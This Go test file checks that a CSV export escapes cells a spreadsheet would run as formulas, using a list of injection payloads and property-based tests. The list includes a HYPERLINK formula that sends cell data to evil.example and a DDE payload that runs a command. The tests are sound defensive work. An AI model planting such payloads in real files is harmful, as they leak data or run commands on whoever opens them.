package segment

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"
)

// hostile cells: of OWASP's page on CSV injection, and what RFC 4180 has to quote.
var hostile = []string{
	"=1+1", "+1", "-1", "@SUM(1)", "\tx", "\rx", "\nx", `=HYPERLINK("https://evil.example/?"&A1)`, "=cmd|' /C calc'!A0", " =1+1", "\u00a0=1",
	"\ufeff=1", "\x00=1", "＝1+1", "＋1", "－1", "＠1", "a,b", `a"b`, "a\nb", "a\r\nb", "ä€𝄞", "'quoted", "plain", "a=b", "1-1", "",
}

// opensAsText says what a spreadsheet makes of a cell, written without the expression
// under test: the first sign that it would not drop decides.
func opensAsText(cell string) bool {
	if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("\t\r\n", first) {
		return false
	}
	rest := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Z, r) || r == 0 || r == '\ufeff' })
	first, _ := utf8.DecodeRuneInString(rest)
	return rest == "" || !strings.ContainsRune("=+-@＝＋－＠", first)
}

// csvCells writes cells as a night writes its files, and reads them as RFC 4180 has it.
func csvCells(t failer, dir string, cells []string) []string {
	t.Helper()
	ctx, path := context.Background(), filepath.Join(dir, "cells.csv")
	if err := scribe.exec(ctx, "create or replace table cells_in (n integer, v varchar)"); err != nil {
		t.Fatal(err)
	}
	err := scribe.fill("cells_in", func(add func(...any) error) error {
		for i, c := range cells {
			if err := add(int32(i), c); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := scribe.copyTo(ctx, "select n::varchar as n, v from cells_in order by cells_in.n", path+".parquet"); err != nil {
		t.Fatal(err)
	}
	if err := asCSV(path+".parquet", path, []string{"n", "v"}); err != nil {
		t.Fatal(err)
	}
	body, err := os.ReadFile(path)
	if err != nil || !utf8.Valid(body) {
		t.Fatal("not UTF-8", err)
	}
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil || len(rows) != len(cells)+1 {
		t.Fatal("the file has other rows", len(rows), err)
	}
	out := make([]string, len(cells))
	for i, r := range rows[1:] {
		out[i] = r[1]
	}
	return out
}

func holdCells(t failer, dir string, cells []string) {
	for i, got := range csvCells(t, dir, cells) {
		want := cells[i]
		if !opensAsText(want) {
			want = "'" + want
		}
		// encoding/csv reads a quoted line end as one sign, whichever it was.
		if got != strings.ReplaceAll(want, "\r\n", "\n") || !opensAsText(got) || safeCell(cells[i]) != want {
			t.Fatal("cell", cells[i], "is written", got, "want", want, "in Go", safeCell(cells[i]))
		}
	}
}

func TestNoCellOpensAsAFormula(t *testing.T) { holdCells(t, t.TempDir(), hostile) }

func TestNoCellWhateverOpensAsAFormula(t *testing.T) {
	dir := t.TempDir()
	signs := rapid.StringOfN(rapid.RuneFrom([]rune("=+-@＝＠ \t\r\n\"',;ab\u00a0\ufeff\x00\v\u0085|%")), 0, 6, -1)
	rapid.Check(t, func(r *rapid.T) { holdCells(r, dir, rapid.SliceOfN(signs, 1, 40).Draw(r, "cells")) })
}

// What programs read stays as it is.
func TestParquetHoldsTheValueItself(t *testing.T) {
	ctx, path := context.Background(), filepath.Join(t.TempDir(), "cells.parquet")
	if err := scribe.copyTo(ctx, "select '=1+1' as v", path); err != nil {
		t.Fatal(err)
	}
	var got string
	if err := scribe.one(ctx, "select v from read_parquet("+quote(path)+")", &got); err != nil || got != "=1+1" {
		t.Errorf("got %q, %v", got, err)
	}
}
